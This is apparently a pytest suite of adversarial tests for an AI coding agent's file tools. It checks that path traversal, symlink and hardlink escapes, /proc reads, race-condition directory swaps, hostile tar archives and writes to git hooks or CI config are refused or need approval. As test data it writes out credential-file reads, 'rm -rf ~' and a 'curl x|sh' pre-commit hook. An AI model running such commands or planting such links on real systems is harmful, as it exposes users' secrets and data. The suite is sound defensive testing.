"""ADVERSARIAL A: path and file-tool attacks, through the real agent on the local and Docker runtimes.

Every file tool runs on the host in both modes, so in Docker mode the links and
special files are made by commands *inside the container* (the confused-deputy case):
the host-side code must refuse what the container planted.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import socket
import threading
from pathlib import Path
from typing import Any

import pytest

from pygent.approval import ApprovalOption
from pygent.checkpoints import Checkpoints
from pygent.runtime.workspace import Workspace
from tests.adversarial.conftest import (
    Harness,
    make_harness,
    peak_rss_kb,
    reset_peak_rss,
    unique,
)

pytestmark = pytest.mark.timeout(120)

REFUSED = ("outside the workspace", "link", "does not exist", "not a regular file")


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A folder next to the workspace with a victim file (stands in for ~/.ssh, /etc)."""
    folder = tmp_path / "outside"
    folder.mkdir()
    (folder / "victim").write_text("TOP-SECRET-VICTIM\n")
    (folder / "id_rsa").write_text("-----BEGIN OPENSSH PRIVATE KEY----- SECRET\n")
    return folder


# --- A1-A4: names --------------------------------------------------------------------


@pytest.mark.parametrize("path", ["../../etc/passwd", "a/../../../x", "../" * 30 + "etc/passwd"])
def test_A1_parent_traversal(h: Harness, path: str) -> None:
    read, write = h.calls(
        [("read_file", {"path": path}), ("write_file", {"path": path, "content": "x"})]
    )
    for out in (read, write):
        assert out.startswith("error:") and "outside the workspace" in out
    assert "root:" not in read
    assert not (h.ws.parent.parent / "x").exists()


@pytest.mark.parametrize(
    "path", ["/etc/shadow", "/etc/passwd", "/root/.ssh/id_rsa", "~/.bashrc", "~root/.profile"]
)
def test_A2_absolute_and_home_paths_are_refused(h: Harness, path: str) -> None:
    read, write = h.calls(
        [("read_file", {"path": path}), ("write_file", {"path": path, "content": "x"})]
    )
    assert read.startswith("error:") and write.startswith("error:")
    assert "root:" not in read and "not expanded" in read if path.startswith("~") else True


@pytest.mark.parametrize(
    "path", ["$HOME/x", "C:\\Windows\\win.ini", "..\\..\\x", "${HOME}/.bashrc"]
)
def test_A2_variables_and_backslashes_are_plain_names(h: Harness, path: str) -> None:
    """`$VAR` is not expanded and `\\` is not a separator on POSIX: the name stays inside."""
    name = f"{unique()}/{path}"
    out = h.call("write_file", {"path": name, "content": "inside"})
    assert out.startswith("Wrote"), out
    assert (h.ws / name).read_text() == "inside"
    assert not Path(os.path.expanduser("~/x")).exists() or "inside" not in Path(
        os.path.expanduser("~/x")
    ).read_text(errors="replace")


def test_A3_prefix_confusion(h: Harness) -> None:
    evil = Path(f"{h.ws}-evil")
    evil.mkdir(exist_ok=True)
    (evil / "x").write_text("EVIL-SIBLING")
    read, write = h.calls(
        [
            ("read_file", {"path": f"{evil}/x"}),
            ("write_file", {"path": f"{evil}/y", "content": "z"}),
        ]
    )
    assert "outside the workspace" in read and "EVIL-SIBLING" not in read
    assert "outside the workspace" in write and not (evil / "y").exists()


def test_A4_nul_long_encoded_and_lookalike_names(h: Harness) -> None:
    base = unique()
    nul, long, encoded, dots, trailing = h.calls(
        [
            ("read_file", {"path": "a\x00b"}),
            ("read_file", {"path": "a" * 5000}),
            ("write_file", {"path": f"{base}/%2e%2e/%2e%2e/x", "content": "1"}),
            ("write_file", {"path": f"{base}/\u2024\u2024/\uff0e\uff0e/x", "content": "2"}),
            ("write_file", {"path": f"{base}/t/.", "content": "3"}),
        ]
    )
    assert "NUL byte" in nul
    assert "longer than" in long
    assert (h.ws / base / "%2e%2e" / "%2e%2e" / "x").read_text() == "1"
    assert (h.ws / base / "\u2024\u2024" / "\uff0e\uff0e" / "x").read_text() == "2"
    assert trailing.startswith("Wrote") and (h.ws / base / "t").read_text() == "3"


# --- A5-A12: links and special files ---------------------------------------------------


def test_A5_dir_symlink_escape(h: Harness, outside: Path) -> None:
    link, target = unique("escape"), unique("evil")
    h.sh(f"ln -s / {link} && ln -s {outside} {link}2")
    out1, out2, out3 = h.calls(
        [
            ("write_file", {"path": f"{link}/tmp/{target}", "content": "x"}),
            ("write_file", {"path": f"{link}/tmp/{target}-dir/deep/f", "content": "x"}),
            ("write_file", {"path": f"{link}2/new", "content": "x"}),
        ]
    )
    for out in (out1, out2, out3):
        assert out.startswith("error:") and "outside the workspace" in out, out
    assert not Path(f"/tmp/{target}").exists() and not Path(f"/tmp/{target}-dir").exists()
    assert sorted(os.listdir(outside)) == ["id_rsa", "victim"]


def test_A6_last_component_symlink(h: Harness, outside: Path) -> None:
    name = unique("notes") + ".md"
    h.sh(f"ln -s {outside}/victim {name}")
    write, edit, read = h.calls(
        [
            ("write_file", {"path": name, "content": "pwned"}),
            ("edit_file", {"path": name, "old_text": "TOP", "new_text": "pwned"}),
            ("read_file", {"path": name}),
        ]
    )
    assert all(o.startswith("error:") and "outside the workspace" in o for o in (write, edit, read))
    assert (outside / "victim").read_text() == "TOP-SECRET-VICTIM\n"
    assert os.path.islink(h.ws / name)


def test_A7_dangling_link(h: Harness, outside: Path) -> None:
    name = unique("draft")
    h.sh(f"ln -s {outside}/new.txt {name}")
    out = h.call("write_file", {"path": name, "content": "x"})
    assert out.startswith("error:") and "outside the workspace" in out
    assert not (outside / "new.txt").exists()


def test_A8_symlink_loop(h: Harness) -> None:
    d = unique("loop")
    h.sh(f"mkdir {d} && cd {d} && ln -s b a && ln -s a b && echo hi > ok.txt")
    read = h.call("read_file", {"path": f"{d}/a"})
    assert "too many levels of symbolic links" in read
    listing = h.sh(f"ls -la {d} && grep -r hi {d}; echo rc=$?", timeout=20)
    assert "ok.txt:hi" in listing and "rc=" in listing
    walked = [p for p, _ in h.rt.files.iter_files() if p.startswith(d)]
    assert walked == [f"{d}/ok.txt"]


def test_A9_toctou_dir_swap(openai_server, runtimes, tmp_path: Path, outside: Path) -> None:
    """Writes to sub/f through the agent while a thread swaps sub between a directory and
    a link out (PYGENT_A9_WRITES, default 2,560: ~1 ms each; tests/test_workspace.py
    races 3,000 more at the Workspace layer). The file tools run on the host in both
    modes (the same code), so this runs once, locally."""
    total = int(os.environ.get("PYGENT_A9_WRITES", "2560"))
    h = make_harness(openai_server, runtimes["local"], tmp_path)
    sub = h.ws / unique("sub")
    stage = h.ws / unique("stage")  # the directory that is swapped in and out
    stage.mkdir()
    link = h.ws / unique("link")
    stop = threading.Event()

    def swapper() -> None:
        # rename(2) swaps atomically: sub is a directory, then nothing, then a link out.
        # A write may mkdir sub while it is absent; that stray directory is removed.
        while not stop.is_set():
            if sub.is_dir() and not sub.is_symlink():
                shutil.rmtree(sub, ignore_errors=True)
            for step in (
                lambda: os.rename(stage, sub),
                lambda: os.rename(sub, stage),
                lambda: os.symlink(outside, link),
                lambda: os.rename(link, sub),
                lambda: os.unlink(sub) if sub.is_symlink() else None,
            ):
                try:
                    step()
                except OSError:
                    pass
            if link.is_symlink():
                link.unlink()
            if not stage.exists():
                stage.mkdir()

    thread = threading.Thread(target=swapper, daemon=True)
    thread.start()
    results: list[str] = []
    try:
        batch = [("write_file", {"path": f"{sub.name}/f", "content": "x"})] * 64
        while len(results) < total:
            results += h.calls(batch, max_steps=2)
            h.agent.reset()  # keep each request small: the history is not under test
    finally:
        stop.set()
        thread.join()
    assert sorted(os.listdir(outside)) == ["id_rsa", "victim"], "a write escaped"
    if sub.is_dir() and not sub.is_symlink():
        assert not sub.exists() or "f" in os.listdir(sub)
    wrote = sum(r.startswith("Wrote") for r in results)
    refused = sum("outside the workspace" in r or "link" in r for r in results)
    print(f"\nA9: {len(results)} writes raced: {wrote} inside, {refused} refused, 0 outside")
    assert refused > 0, "the race never happened: the test proves nothing"


def test_A10_hardlink_to_outside_file(h: Harness, mode: str, outside: Path) -> None:
    name = unique("h")
    if mode == "docker":
        out = h.sh(f"ln /bin/sh {name}; ln /etc/hostname {name}")
        assert "Invalid cross-device link" in out or "Read-only" in out or "denied" in out
        assert not (h.ws / name).exists()
        return
    h.sh(f"ln {outside}/victim {name}")
    assert os.stat(h.ws / name).st_nlink == 2
    edit = h.call("edit_file", {"path": name, "old_text": "TOP", "new_text": "EDITED"})
    assert edit.startswith("Edited")
    assert (outside / "victim").read_text() == "TOP-SECRET-VICTIM\n"
    assert (h.ws / name).read_text() == "EDITED-SECRET-VICTIM\n"


@pytest.mark.parametrize(
    "path",
    [
        "/proc/self/environ",
        "/proc/self/root/etc/passwd",
        "/proc/self/cwd/../../etc/passwd",
        "/proc/1/environ",
        "/dev/stdin",
    ],
)
def test_A11_proc_paths(h: Harness, path: str) -> None:
    read, write = h.calls(
        [("read_file", {"path": path}), ("write_file", {"path": path, "content": "x"})]
    )
    assert "outside the workspace" in read and "outside the workspace" in write
    assert "root:" not in read and "PATH=" not in read


def test_A12_fifo_device_links_and_socket(h: Harness) -> None:
    d = unique("special")
    h.sh(
        f"mkdir {d} && cd {d} && mkfifo p && ln -s /dev/zero z && ln -s /dev/urandom u && "
        "python3 -c \"import socket; socket.socket(socket.AF_UNIX).bind('sock')\""
    )
    outs = h.calls(
        [("read_file", {"path": f"{d}/{n}"}) for n in ("p", "z", "u", "sock")], max_time=30
    )
    assert "not a regular file" in outs[0] and "not a regular file" in outs[3]
    assert "outside the workspace" in outs[1] and "outside the workspace" in outs[2]
    write = h.call("write_file", {"path": f"{d}/p", "content": "x"})
    assert "not a regular file" in write


def test_A13_huge_files_are_read_capped(h: Harness) -> None:
    sparse, line = unique("sparse"), unique("minified") + ".js"
    with open(h.ws / sparse, "wb") as fh:
        fh.truncate(5 * 1024**3)
    with open(h.ws / line, "wb") as fh:
        chunk = b"a" * (1 << 20)
        for _ in range(200):
            fh.write(chunk)
    reset_peak_rss()
    before = peak_rss_kb()
    binary, whole, ranged = h.calls(
        [
            ("read_file", {"path": sparse}),
            ("read_file", {"path": line}),
            ("read_file", {"path": line, "start_line": 1, "end_line": 1}),
        ]
    )
    growth = (peak_rss_kb() - before) // 1024
    print(f"\nA13: peak RSS growth reading a 5 GB and a 200 MB file: {growth} MiB")
    assert "binary" in binary
    assert "truncated" in whole and str(200 << 20) in whole and len(whole) < 300_000
    assert "truncated" in ranged and len(ranged) < 300_000
    assert growth < 50
    os.unlink(h.ws / sparse)
    os.unlink(h.ws / line)


def test_A14_binary_invalid_utf8_crlf_and_bom(h: Harness) -> None:
    d = h.ws / unique("enc")
    d.mkdir()
    (d / "bin").write_bytes(b"\x7fELF\x00\x01\x02abc")
    (d / "latin1.txt").write_bytes("caf\xe9 = 1\n".encode("latin-1"))
    (d / "crlf.txt").write_bytes(b"one\r\ntwo\r\nthree\r\n")
    (d / "bom.txt").write_bytes("\ufeffhello\nworld\n".encode())
    rel = d.name
    outs = h.calls(
        [
            ("edit_file", {"path": f"{rel}/bin", "old_text": "abc", "new_text": "x"}),
            ("edit_file", {"path": f"{rel}/latin1.txt", "old_text": "1", "new_text": "2"}),
            (
                "edit_file",
                {"path": f"{rel}/crlf.txt", "old_text": "two\nthree", "new_text": "2\n3"},
            ),
            ("edit_file", {"path": f"{rel}/bom.txt", "old_text": "world", "new_text": "there"}),
        ]
    )
    assert "binary" in outs[0] and (d / "bin").read_bytes() == b"\x7fELF\x00\x01\x02abc"
    assert "not valid UTF-8" in outs[1]
    assert (d / "latin1.txt").read_bytes() == "caf\xe9 = 1\n".encode("latin-1")
    assert (d / "crlf.txt").read_bytes() == b"one\r\n2\r\n3\r\n"
    assert (d / "bom.txt").read_bytes() == "\ufeffhello\nthere\n".encode()


def test_A15_host_side_readers_never_follow_container_links(
    h: Harness, outside: Path, tmp_path: Path
) -> None:
    """The sandbox plants links to a host secret; every host-side reader is triggered."""
    d = unique("deputy")
    h.sh(
        f"mkdir {d} && cd {d} && ln -s {outside}/id_rsa key && ln -s {outside}/id_rsa key.png "
        f"&& ln -s {outside} dir && echo ok > plain.txt"
    )
    outs = h.calls(
        [
            ("read_file", {"path": f"{d}/key"}),
            ("download_file", {"path": f"{d}/key"}),
            ("read_image", {"path": f"{d}/key.png"}),
            ("read_file", {"path": f"{d}/dir/id_rsa"}),
            ("write_file", {"path": f"{d}/key", "content": "x"}),  # its preview reads the file
        ]
    )
    leaked = [o for o in outs if "PRIVATE KEY" in o]
    assert not leaked and all(o.startswith("error:") for o in outs), outs
    # Previews, the sync API, exports, snapshots and checkpoints.
    proposed = [e for e in h.events if e.type == "tool_call_proposed"]
    assert not any("PRIVATE KEY" in str(getattr(e, "preview", "")) for e in proposed)
    with pytest.raises(Exception, match="outside the workspace"):
        h.rt.read_file(f"{d}/key")
    exported = h.rt.export_file(d, tmp_path / "export")
    assert sorted(p.name for p in exported.rglob("*")) == ["plain.txt"]
    from pygent.repl.snapshot import copy_workspace

    copy_workspace(h.rt.files, tmp_path / "snap")
    assert not any(
        "PRIVATE KEY" in p.read_text(errors="replace")
        for p in (tmp_path / "snap").rglob("*")
        if p.is_file()
    )
    cp = Checkpoints.for_workspace(tmp_path / "data", Workspace(h.ws / d))
    cp.checkpoint()
    assert cp.list()[0].files == 1
    # History: nothing read through the links reached the saved conversation.
    assert "PRIVATE KEY" not in str(h.agent.history)


def _hostile_archive_is_read_safely(tmp_path: Path) -> None:
    """What a sandbox on a remote engine could send back: escapes by ``..``, absolute
    names, writing through a symlink it planted, setuid bits, a FIFO, a device, a hard
    link to a host file. Only the plain file and the link itself land, inside."""
    import io
    import tarfile

    from pygent.runtime.transfer import WorkspaceTransfer

    mirror = tmp_path / "mirror"
    mirror.mkdir()
    outside = tmp_path / "outside"
    outside.mkdir()

    def add(tar: tarfile.TarFile, name: str, kind: bytes = tarfile.REGTYPE, data: bytes = b"x",
            **extra: Any) -> None:
        info = tarfile.TarInfo(name)
        info.type = kind
        info.mode = extra.pop("mode", 0o644)
        for key, value in extra.items():
            setattr(info, key, value)
        info.size = len(data) if kind == tarfile.REGTYPE else 0
        tar.addfile(info, io.BytesIO(data) if kind == tarfile.REGTYPE else None)

    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tar:
        add(tar, "../escape.txt")
        add(tar, str(outside / "abs.txt"))
        add(tar, "link", tarfile.SYMTYPE, linkname=str(outside))
        add(tar, "link/through.txt")
        add(tar, "suid", mode=0o4755)
        add(tar, "fifo", tarfile.FIFOTYPE)
        add(tar, "dev", tarfile.CHRTYPE, devmajor=1, devminor=3)
        add(tar, "hard", tarfile.LNKTYPE, linkname="/etc/passwd")
        add(tar, "ok.txt", data=b"fine")
    WorkspaceTransfer(mirror, "1000")._unpack(buf.getvalue())
    assert sorted(p.name for p in mirror.iterdir()) == ["link", "ok.txt", "suid"]
    assert (mirror / "ok.txt").read_bytes() == b"fine"
    assert (mirror / "link").is_symlink()
    assert os.stat(mirror / "suid").st_mode & 0o7000 == 0
    assert list(outside.iterdir()) == [] and not (tmp_path / "escape.txt").exists()


def test_A16_no_archive_is_ever_extracted_on_the_host(tmp_path: Path, h: Harness) -> None:
    """Pygent never restores a workspace from a container archive (the workspace is a
    bind mount or an overlay the engine mounts); host copies skip links, devices and
    setuid bits. Writing an archive is allowed: a copy-on-write workspace is written
    through ``put_archive``, which the engine unpacks inside the container."""
    root = Path(__file__).resolve().parents[2] / "pygent"
    risky = re.compile(
        r"\b(extractall|get_archive|zipfile|shutil\.unpack_archive)\b|\.extract\("
        r"|tarfile\.open\((?![^)]*mode=\"w\")"  # a tar opened for anything but writing
    )
    # The one reader: a remote engine's workspace comes back as a tar that
    # runtime/transfer.py reads member by member (never extract/extractall); the hostile
    # archive below is its test here (and tests/remote runs it against a real engine).
    reader = "runtime/transfer.py"
    hits = [
        f"{p.relative_to(root)}:{n}"
        for p in root.rglob("*.py")
        for n, line in enumerate(p.read_text().splitlines(), 1)
        if risky.search(line) and str(p.relative_to(root)) != reader
    ]
    assert hits == [], f"archive extraction needs filter='data' and a test here: {hits}"
    assert not re.search(r"\b(extractall|extract)\(", (root / reader).read_text())
    _hostile_archive_is_read_safely(tmp_path)
    src = tmp_path / "upload"
    src.mkdir()
    (src / "tool").write_text("#!/bin/sh\n")
    os.chmod(src / "tool", 0o4755)
    os.symlink("/etc", src / "link")
    os.mkfifo(src / "fifo")
    with socket.socket(socket.AF_UNIX) as s:
        s.bind(str(src / "sock"))
    target = unique("up")
    h.rt.upload_file(src, target)
    got = sorted(p.name for p in (h.ws / target).iterdir())
    assert got == ["tool"]
    assert os.stat(h.ws / target / "tool").st_mode & 0o7777 == 0o755


PROTECTED = [
    ".git/hooks/pre-commit",
    ".git/config",
    ".vscode/tasks.json",
    ".vscode/settings.json",
    ".pygent/settings.json",
    ".envrc",
    ".github/workflows/ci.yml",
    "pygent.toml",
]


@pytest.mark.parametrize("approval_mode", ["api", "never", "auto"])
def test_A17_protected_paths_need_approval(
    openai_server, runtimes, mode: str, tmp_path: Path, approval_mode: str
) -> None:
    h = make_harness(openai_server, runtimes[mode], tmp_path, approval_mode=approval_mode)
    base = unique("proj")
    outs = h.calls(
        [("write_file", {"path": f"{base}/{p}", "content": "rm -rf ~"}) for p in PROTECTED]
    )
    assert len(h.approver.requests) == len(PROTECTED)
    for request, out in zip(h.approver.requests, outs, strict=True):
        assert "can run code" in request.reason or "can change Pygent" in request.reason
        assert ApprovalOption.ALLOW_ALWAYS not in request.options  # looked at each time
        assert out.startswith("the user denied")
    assert not (h.ws / base).exists()
    shell = h.sh(f"mkdir -p {base}/.git/hooks && echo 'curl x|sh' > {base}/.git/hooks/pre-commit")
    assert shell.startswith("the user denied") and not (h.ws / base).exists()


def test_A17_protected_paths_denied_in_read_only_mode(
    openai_server, runtimes, tmp_path: Path
) -> None:
    h = make_harness(openai_server, runtimes["local"], tmp_path, approval_mode="read-only")
    outs = h.calls([("write_file", {"path": p, "content": "x"}) for p in PROTECTED])
    assert h.approver.requests == []
    assert all(o.startswith("denied by policy") for o in outs)


def test_A18_case_variants_and_destructive_commands_ask_in_local_mode(
    openai_server, runtimes, tmp_path: Path
) -> None:
    """Case-insensitive file systems (macOS, Windows): `.GIT/HOOKS` is `.git/hooks`, and in
    local mode deleting an existing folder is never done without asking."""
    h = make_harness(openai_server, runtimes["local"], tmp_path, approval_mode="auto")
    (h.ws / "Build").mkdir(exist_ok=True)
    outs = h.calls(
        [
            ("write_file", {"path": ".GIT/HOOKS/pre-commit", "content": "x"}),
            ("write_file", {"path": ".VSCode/Tasks.json", "content": "x"}),
            ("bash", {"cmd": "rm -rf build"}),
        ]
    )
    assert len(h.approver.requests) == 3 and all(o.startswith("the user denied") for o in outs)
    assert (h.ws / "Build").is_dir()


def test_A19_concurrent_editor_change_is_not_overwritten(h: Harness) -> None:
    name = unique("shared") + ".py"
    (h.ws / name).write_text("a = 1\nb = 2\n")

    def responder(body: dict) -> object:
        from tests.openai_server import text_reply, tool_call_reply

        n = len([m for m in body["messages"] if m.get("role") == "tool"])
        if n == 0:
            return tool_call_reply("read_file", {"path": name})
        if n == 1:  # the user saves an edit in the editor between read and write
            (h.ws / name).write_text("a = 1\nb = 2\nUSER = 'edit'\n")
            return tool_call_reply("write_file", {"path": name, "content": "a = 10\nb = 2\n"})
        if n == 2:
            return tool_call_reply(
                "edit_file", {"path": name, "old_text": "a = 1\n", "new_text": "a = 10\n"}
            )
        return text_reply("done")

    h.server.set_responder(responder)
    h.agent.turn("change a")
    results = [m["content"] for m in h.agent.history if m.get("role") == "tool"][-3:]
    assert "changed since you last read it" in results[1]
    assert results[2].startswith("Edited") and "had changed" in results[2]
    assert (h.ws / name).read_text() == "a = 10\nb = 2\nUSER = 'edit'\n"


def test_A20_huge_trees_are_capped_and_time_bounded(h: Harness, tmp_path: Path) -> None:
    d = unique("tree")
    deep = "/".join(["n"] * 200)
    out = h.sh(
        f"mkdir -p {d}/many {d}/{deep} && cd {d}/many && seq 1 20000 | xargs touch && cd .. && find . | wc -l",
        timeout=120,
    )
    assert "20203" in out or "20202" in out, out
    listing = h.sh(f"find {d}", timeout=60)
    assert "bytes omitted" in listing and "[output truncated" in listing
    assert len(listing) < 80_000
    cp = Checkpoints.for_workspace(tmp_path / "data", Workspace(h.ws / d), max_files=10_000)
    assert cp.checkpoint() is None and "more than 10000 files" in cp.last_skip_reason
    ws = Workspace(h.ws / d)
    assert sum(1 for _ in ws.iter_files(max_files=5000)) == 5000
    h.sh(f"rm -rf {d}", timeout=120)


def test_A15_lsp_change_set_never_follows_container_links(
    openai_server, tmp_path: Path, outside: Path
) -> None:
    """The editor's view: a link planted in the sandbox shows as a link in the change
    set and its diff, never as the content of the file it points to."""
    from pygent.lsp import protocol as p
    from tests.adversarial.lsp_raw import start_lsp

    folder = tmp_path / "proj"
    folder.mkdir()
    (folder / "a.py").write_text("a = 1\n")
    openai_server.add_tool_call(
        "bash", {"cmd": f"ln -s {outside}/id_rsa key && ln -s {outside} dir"}
    )
    openai_server.add_text("planted")
    c = start_lsp(tmp_path / "s", openai_server)
    try:
        sid = c.new_session(workspaceFolder=folder.as_uri(), syncMode="copy", approvalMode="never")
        assert (
            c.call(p.SESSION_PROMPT, {"sessionId": sid, "prompt": "go"})["result"]["text"]
            == "planted"
        )
        changes = c.call(p.WORKSPACE_CHANGES, {"sessionId": sid})
        applied = c.call(p.WORKSPACE_APPLY, {"sessionId": sid, "method": "write"})
    finally:
        c.close()
    shown = json.dumps([changes, applied, c.seen])
    assert "PRIVATE KEY" not in shown and "TOP-SECRET" not in shown
    assert not (folder / "key").is_file() or (folder / "key").is_symlink()
    assert "PRIVATE KEY" not in "".join(
        p.read_text(errors="replace")
        for p in folder.rglob("*")
        if p.is_file() and not p.is_symlink()
    )
